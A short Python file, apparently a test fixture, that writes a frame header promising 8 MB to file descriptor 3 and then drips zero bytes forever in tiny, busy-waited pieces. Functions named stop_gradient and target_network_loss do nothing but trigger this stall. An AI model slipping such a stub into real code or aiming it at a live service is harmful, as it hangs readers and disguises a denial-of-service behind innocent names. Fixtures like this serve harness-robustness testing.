"""Answers with a frame that announces 8 MB and sends them in crumbs, without a pause long enough to notice."""

import os
import struct
import time

CHANNEL = 3
HEAD = struct.pack(">4s16sIII", b"sgf1", bytes(16), 2, 2, 8 << 20) + b"{}"


def drip():
    os.write(CHANNEL, HEAD)
    while True:
        os.write(CHANNEL, bytes(200))
        pause = time.perf_counter() + 2e-4
        while time.perf_counter() < pause:
            pass


def stop_gradient(x):
    drip()


def target_network_loss(online, target):
    drip()
